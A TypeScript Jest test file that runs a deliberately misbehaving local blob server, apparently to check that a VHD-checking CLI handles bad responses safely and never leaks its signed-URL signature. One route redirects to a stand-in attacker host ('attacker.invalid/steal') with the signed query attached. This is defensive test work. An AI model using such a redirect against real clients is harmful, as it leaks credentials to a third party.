/**
 * A loopback blob server that lies, read through the bundled CLI (`--vhd os=URL?…sig=…`) as a process:
 * Range ignored, a wrong Content-Range, a body far larger than asked, a redirect to another host, errors
 * and headers that echo the signed URL back. test/vhd/http.test.ts covers the reader in-process; here
 * each lie must end as the right verdict (the VHD rules unknown, never pass), bounded in time, with the
 * signature in no output.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { footerChecksum, readVhdFooter } from '../../src/facts/vhd.js'
import { COMPLIANT, NOW, commandLines, expectAbsent, makeWorkspace, runAsync } from './support.js'

const W = makeWorkspace('blob')
const SIG = 'Lying0Server0Signature0abcdefABCDEF0123456789'
const SIZE = 1024 * 1024
const LENGTH = SIZE + 512

function footer(): Buffer {
  const b = Buffer.alloc(512)
  b.write('conectix', 0, 'latin1')
  b.writeBigUInt64BE(BigInt(SIZE), 40)
  b.writeBigUInt64BE(BigInt(SIZE), 48)
  b.writeUInt32BE(2, 60)
  b.writeUInt32BE(footerChecksum(b), 64)
  return b
}

let server: http.Server
let base = ''

beforeAll(async () => {
  server = http.createServer((req, res) => {
    const url = req.url ?? ''
    const p = url.split('?')[0]
    const head = (len: string, extra: Record<string, string> = {}) => {
      res.writeHead(200, { 'Content-Length': len, 'x-ms-blob-type': 'PageBlob', ...extra })
      res.end()
    }
    if (
      req.method === 'HEAD' &&
      p !== '/huge-length.vhd' &&
      p !== '/echo-header.vhd' &&
      p !== '/redirect.vhd'
    )
      return head(String(LENGTH))
    switch (p) {
      case '/ok.vhd':
        res.writeHead(206, {
          'Content-Range': `bytes ${SIZE}-${LENGTH - 1}/${LENGTH}`,
          'Content-Length': '512'
        })
        return res.end(footer())
      case '/ignores-range.vhd': {
        res.writeHead(200, { 'Content-Length': String(LENGTH) })
        res.write(Buffer.alloc(SIZE))
        return res.end(footer())
      }
      case '/wrong-range.vhd':
        res.writeHead(206, { 'Content-Range': `bytes 0-511/${LENGTH}`, 'Content-Length': '512' })
        return res.end(footer())
      case '/huge-body.vhd': {
        res.writeHead(206, { 'Content-Range': `bytes ${SIZE}-${LENGTH - 1}/${LENGTH}` })
        const chunk = Buffer.alloc(64 * 1024)
        let sent = 0
        const pump = () => {
          while (sent < 512 * 1024 * 1024) {
            if (res.destroyed) return
            sent += chunk.length
            if (!res.write(chunk)) return void res.once('drain', pump)
          }
          res.end()
        }
        return pump()
      }
      case '/redirect.vhd':
        res.writeHead(307, { Location: `http://attacker.invalid/steal?${url.split('?')[1] ?? ''}` })
        return res.end()
      case '/echo-body.vhd':
        res.writeHead(403, { 'Content-Type': 'application/xml' })
        return res.end(
          `<Error><Code>AuthenticationFailed</Code><Message>Signature ${url} did not match</Message></Error>`
        )
      case '/echo-header.vhd':
        res.writeHead(403, { 'x-ms-error-code': 'AuthenticationFailed', 'x-ms-error-message': `bad ${url}` })
        return res.end()
      case '/huge-length.vhd':
        return head('99999999999999999999999999999')
      case '/hang.vhd':
        res.writeHead(206, {
          'Content-Range': `bytes ${SIZE}-${LENGTH - 1}/${LENGTH}`,
          'Content-Length': '512'
        })
        return res.write(`partial ${url}`)
      default:
        res.writeHead(404)
        return res.end()
    }
  })
  await new Promise<void>(r => server.listen(0, '127.0.0.1', () => r()))
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})

afterAll(async () => {
  server.closeAllConnections()
  await new Promise<void>(r => server.close(() => r()))
  W.cleanup()
})

const signed = (p: string) => `${base}${p}?sv=2022-11-02&sr=b&sp=r&%73ig=${SIG}`

interface Finding {
  rule: string
  status: string
}

async function checkVhd(p: string) {
  const r = await runAsync(
    ['check', '--manifest', COMPLIANT, '--vhd', `os=${signed(p)}`, ...NOW, '--format', 'json', '--verbose'],
    W.ws
  )
  expect(r.signal).toBeNull()
  expect([0, 1]).toContain(r.code)
  expectAbsent([r.stdout, r.stderr], [SIG, W.marker])
  expect(commandLines(r.stdout + r.stderr)).toEqual([])
  const report = JSON.parse(r.stdout) as { images: Array<{ findings: Finding[] }> }
  const status = (id: string) => report.images[0]!.findings.find(f => f.rule === id)?.status
  return { r, status }
}

describe('a blob server that lies', () => {
  test('an honest server: the fixed footer is read and the format rule passes', async () => {
    const { status } = await checkVhd('/ok.vhd')
    expect(status('AZMP-DSK-005')).toBe('pass')
  })
  test.each([
    ['Range ignored (200 with the whole blob)', '/ignores-range.vhd'],
    ['a Content-Range for other bytes', '/wrong-range.vhd'],
    ['a 206 whose body runs on for 512 MiB', '/huge-body.vhd'],
    ['a redirect to another host carrying the query', '/redirect.vhd'],
    ['a 403 whose body echoes the signed URL', '/echo-body.vhd'],
    ['a 403 whose headers echo the signed URL', '/echo-header.vhd'],
    ['a Content-Length of 10^28', '/huge-length.vhd'],
    ['a 404', '/missing.vhd']
  ])('%s: the VHD format is unknown, never pass', async (_what, p) => {
    const { status } = await checkVhd(p)
    expect(status('AZMP-DSK-005')).toBe('unknown')
    expect(status('AZMP-DSK-006')).not.toBe('pass')
  })
  test('a server that sends part of the footer and the signed URL, then stalls: a timeout error fact', async () => {
    const t0 = Date.now()
    const f = await readVhdFooter(signed('/hang.vhd'), { timeoutMs: 500 })
    expect(Date.now() - t0).toBeLessThan(10_000)
    expect(f.error).toMatch(/timed out|short|bytes/)
    expectAbsent([JSON.stringify(f)], [SIG])
  })
})
